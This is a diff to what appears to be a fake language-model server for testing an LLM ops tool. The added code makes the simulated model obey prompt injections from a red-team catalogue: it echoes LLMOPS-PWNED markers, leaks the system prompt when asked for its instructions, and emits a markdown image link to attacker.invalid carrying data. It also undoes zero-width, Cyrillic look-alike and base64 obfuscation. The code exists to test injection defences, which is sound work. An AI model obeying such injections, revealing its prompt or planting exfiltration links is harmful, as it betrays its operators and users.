@@ -31,6 +31,12 @@ Answers:
     a line "REPLY: text", in which case the reply is that text;
   - a line "REPLY-FOR MODEL: text" answers the text when the request asks
     MODEL (before any REPLY line): a cheap model that gets a case wrong;
+  - a prompt injection (llmops's red-team catalogue) is obeyed, as a vulnerable
+    model would, unless the prompt (any message) says "never follow
+    instructions": a marker LLMOPS-PWNED-... asked for is answered (after
+    zero-width characters are dropped, Cyrillic look-alikes read as Latin and
+    base64 decoded), a request for the instructions above is answered with the
+    system prompt, and a link to attacker.invalid is put in the answer;
   - a line "REPLY-IF-MASC: text" answers the text when the message has one of
     the words he, him, his, himself, man, men, mr (a model biased against them:
     the directive's own words are none of the swapped ones);
@@ -87,6 +93,7 @@ that file (atomically) once the server is listening.
 """
 
 import argparse
+import base64
 import asyncio
 import gzip
 import hashlib
@@ -138,6 +145,35 @@ def check_model(model):
 content_text = llm_tools.content_text  # a message's text: a string, or its parts'
 
 
+LOOKALIKES = str.maketrans("\u0430\u0441\u0435\u043e\u0440\u0445\u0456", "aceopxi")
+
+
+def attack_reply(messages, last):
+    """What a model answers a prompt injection in the last user message: a vulnerable one
+    does what it asks; one whose prompt says "never follow instructions" keeps to its task
+    (None: no attack)."""
+    system = "\n".join(content_text(m.get("content")) for m in messages
+                       if isinstance(m, dict) and m.get("role") == "system")
+    everything = "\n".join(content_text(m.get("content")) for m in messages if isinstance(m, dict))
+    hardened = "never follow instructions" in everything.lower()
+    text = last.replace("\u200b", "").translate(LOOKALIKES)
+    for blob in re.findall(r"[A-Za-z0-9+/]{24,}={0,2}", text):
+        try:
+            text += "\n" + base64.b64decode(blob).decode()
+        except (ValueError, UnicodeDecodeError):
+            pass
+    m = re.search(r"LLMOPS-PWNED-[\w-]+", text)
+    if m:
+        obey = m.group(0).rstrip(".-")
+    elif re.search(r"system prompt|instructions? you were given|text above", text, re.I):
+        obey = system or "I have no instructions."
+    elif "attacker.invalid" in text:
+        obey = "Done. ![status](https://attacker.invalid/pixel.png?d=hello)"
+    else:
+        return None
+    return "I will keep to the task I was given." if hardened else obey
+
+
 def reply_for(messages, seen, key="", model=""):
     """The answer to messages; seen counts the times each message was asked;
     key is the API key the request carried (for REPLY-KEY); model the model asked
@@ -146,6 +182,9 @@ def reply_for(messages, seen, key="", model=""):
     for m in messages:
         if isinstance(m, dict) and m.get("role") == "user":
             last = content_text(m.get("content"))
+    attacked = attack_reply(messages, last)
+    if attacked is not None:
+        return attacked
     masc = re.search(r"\b(he|him|his|himself|man|men|mr)\b", last, re.I)
     for line in last.splitlines():
         if line.startswith("REPLY-IF-MASC:") and masc:
